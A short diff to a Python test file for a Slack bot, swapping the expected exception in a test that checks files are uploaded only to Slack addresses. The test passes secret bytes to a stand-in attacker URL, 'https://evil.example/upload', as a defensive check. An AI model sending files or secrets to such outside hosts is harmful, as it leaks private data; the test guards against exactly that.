@@ -12,6 +12,7 @@ from bot.rules.access import State
 from bot.rules.documents import What
 from bot.rules.reminders.digest import Why
 from bot.services.documents import deliveries
+from handlers.slack.calling import NoReplyError
 from handlers.slack.files import upload
 from storage.outbox import queue, reminders
 from storage.outbox.deliveries import delivery
@@ -134,7 +135,7 @@ def test_a_name_that_is_no_records_is_not_even_asked_for(school: School, value: 
 
 
 def test_a_file_is_sent_to_slack_and_nobody_else(school: School) -> None:
-    with pytest.raises(OSError, match="not an address of Slack's"):
+    with pytest.raises(NoReplyError, match="not an address of Slack's"):
         upload(school.bot.client, "https://evil.example/upload", b"secret")
 
 
